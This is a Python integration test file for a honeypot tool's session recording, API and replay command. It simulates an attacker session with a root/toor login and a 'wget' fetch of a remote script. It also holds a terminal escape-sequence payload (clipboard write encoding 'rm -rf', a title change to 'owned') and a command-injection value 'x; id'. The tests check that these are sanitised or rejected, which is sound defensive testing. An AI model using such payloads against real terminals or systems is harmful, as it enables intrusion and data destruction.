"""A recorded session on its way: from a sender's segments to the API, to `decnet sessions` and to `decnet replay`."""
import json
import os
import pty
import re
import signal
import subprocess
import time
import uuid

import pytest
from sender import Sender

HEADER = '{"version":2,"width":80,"height":24,"timestamp":1790000000,"title":"root@web-01","env":{"TERM":"xterm","SHELL":"/bin/bash"}}\n'
ATTACK = "\x1b]52;c;cm0gLXJm\x07\x1b[6n\x1b[c\x1b]0;owned\x07\x05\x1b[5i"
FIRST = HEADER + '[0.100000,"m","login root accepted"]\n[0.200000,"o","# "]\n' + "".join(
    f'[{1 + n / 10:.6f},"i","{key}"]\n[{1 + n / 10:.6f},"o","{key}"]\n' for n, key in enumerate("id")) + '[2.000000,"m","command id"]\n'
SECOND = HEADER + f'[2.100000,"o",{json.dumps(chr(13) + chr(10) + "uid=0(root)" + ATTACK)}]\n[31.500000,"o","\\r\\nbye \x5cu00e9"]\n'
PEER = {"src_ip": "203.0.113.77", "src_port": 40007, "dst_ip": "127.66.0.10", "dst_port": 22, "proto": "tcp"}


@pytest.fixture(scope="module")
def session(fleet):
    """One that was recorded in two segments; the second is sent when the first has been seen."""
    name = str(uuid.uuid4())
    sender = Sender(fleet.data / "decnet/run")

    def say(kind, severity=6, **fields):
        sender.event(kind, severity, session=name, **PEER, **fields)

    def segment(number, text, duration_ms, **more):
        content = text.encode()
        say("recording", artifact=sender.blob(content), duration_ms=duration_ms, format="asciicast v2", recording=0, segment=number,
            size=len(content), **more)
        sender.drain()

    say("session.started")
    say("login.attempt", 4, principal="root", secret_kind="plaintext", secret_b64="dG9vcg==", secret_printable="toor", outcome="accepted",
        method="password")
    say("command", command="id")
    say("command", command="wget http://203.0.113.9/replay.sh")
    segment(0, FIRST, 2000)
    grown = fleet.wait_for(lambda: [row for row in fleet.api("/sessions?has_recording=true")["data"] if row["uuid"] == name])
    assert grown[0]["ended_at"] is None and not fleet.api(f"/sessions/{name}")["recordings"][0]["final"]
    segment(1, SECOND, 31500, final="true")
    say("session.ended", duration_ms=31600, bytes_in=20, bytes_out=90, reason="quit")
    sender.drain()
    sender.close()
    fleet.wait_for(lambda: fleet.api(f"/sessions/{name}")["ended_at"])
    return name


def fetch(fleet, path):
    done = subprocess.run(["curl", "-sSi", "--unix-socket", str(fleet.data / "decnet/run/api.sock"), f"http://decnet/api/v1{path}"],
                          capture_output=True, timeout=30, check=True)
    head, body = done.stdout.split(b"\r\n\r\n", 1)
    return head.decode(), body.decode()


def test_the_segments_are_one_recording(fleet, session):
    head, body = fetch(fleet, f"/sessions/{session}/recording")
    assert "200" in head.splitlines()[0] and "application/x-asciicast" in head
    assert body == FIRST + SECOND.removeprefix(HEADER)
    assert all(json.loads(line) for line in body.splitlines())
    head, body = fetch(fleet, f"/sessions/{session}/recording?after=0&download=true")
    assert body == SECOND.removeprefix(HEADER) and "attachment" in head and re.search(r"Decnet-Segment: 1\b", head, re.I)


def test_a_session_tells_what_happened_in_it(fleet, session):
    found = fleet.api(f"/sessions/{session}")
    assert [row["command"] for row in found["command_list"]] == ["id", "wget http://203.0.113.9/replay.sh"]
    assert found["urls"] == ["http://203.0.113.9/replay.sh"] and found["login_list"][0]["outcome"] == "accepted"
    assert found["recordings"][0]["missing"] == 0 and found["recorded_ms"] == 31500
    assert "toor" not in json.dumps(found)
    assert [row["uuid"] for row in fleet.api("/sessions?command=replay.sh&has_login=true&duration_min_ms=30000")["data"]] == [session]
    urls = fleet.api(f"/attackers/{found['attacker_uuid']}/urls")["data"]
    assert urls[0]["url"] == "http://203.0.113.9/replay.sh" and urls[0]["session_uuid"] == session


def test_the_command_line_lists_and_shows_it(fleet, session):
    assert session in fleet.command("sessions", "--recorded", "--attacker", "203.0.113.77").stdout
    assert "no such session" in fleet.command("sessions", "--command", "nobody typed this").stdout
    shown = fleet.command("sessions", "show", session).stdout
    assert "wget http://203.0.113.9/replay.sh" in shown and f"decnet replay {session}" in shown
    assert json.loads(fleet.command("sessions", "show", session, "--json").stdout)["uuid"] == session
    assert fleet.command("sessions", "show", str(uuid.uuid4()), check=False).returncode == 3
    assert fleet.command("sessions", "show", "x; id", check=False).returncode == 2


def test_a_replay_shows_what_was_seen_and_nothing_that_a_terminal_obeys(fleet, session):
    shown = fleet.command("replay", session).stdout
    assert "# id" in shown and "uid=0(root)" in shown and "bye é" in shown
    for never in ("\x1b]", "\x1b[6n", "\x1b[c", "\x05", "\x1b[5i", "owned"):
        assert never not in shown
    assert "\x1b]52;" in fleet.command("replay", session, "--raw").stdout
    assert fleet.command("replay", session, "--json").stdout == FIRST + SECOND.removeprefix(HEADER)
    assert fleet.command("replay", str(uuid.uuid4()), check=False).returncode == 3
    assert fleet.command("replay", session, "--recording", "7", check=False).returncode == 3


def in_terminal(fleet, *arguments, stop_after=None):
    """What a command prints on a terminal, and how long it takes."""
    began = time.monotonic()
    pid, terminal = pty.fork()
    if pid == 0:
        command = fleet.arguments(*arguments)
        os.execv(command[0], command)
    shown = b""
    while True:
        try:
            more = os.read(terminal, 65536)
        except OSError:
            break
        if not more:
            break
        shown += more
        if stop_after is not None and stop_after in shown:
            os.kill(pid, signal.SIGINT)
            stop_after = None
    _, status = os.waitpid(pid, 0)
    os.close(terminal)
    return shown, time.monotonic() - began, os.waitstatus_to_exitcode(status)


def test_on_a_terminal_it_takes_its_time_and_puts_it_back(fleet, session):
    shown, took, code = in_terminal(fleet, "replay", session, "--max-idle", "0.5", "--speed", "2")
    assert code == 0 and b"uid=0(root)" in shown and b"\x1b[?25h" in shown[-60:]
    assert 0.5 < took < 10, "silences are cut, and what is left is waited for"


def test_ctrl_c_ends_it_and_puts_the_terminal_back(fleet, session):
    shown, took, code = in_terminal(fleet, "replay", session, "--max-idle", "60", stop_after=b"uid=0")
    assert code == 0 and b"\x1b[?25h" in shown[-60:] and b"bye" not in shown and took < 20


def test_completion_knows_the_commands(fleet):
    for shell in ("bash", "zsh", "fish"):
        script = fleet.command("completion", shell).stdout
        assert "replay" in script and "sessions" in script and "show" in script
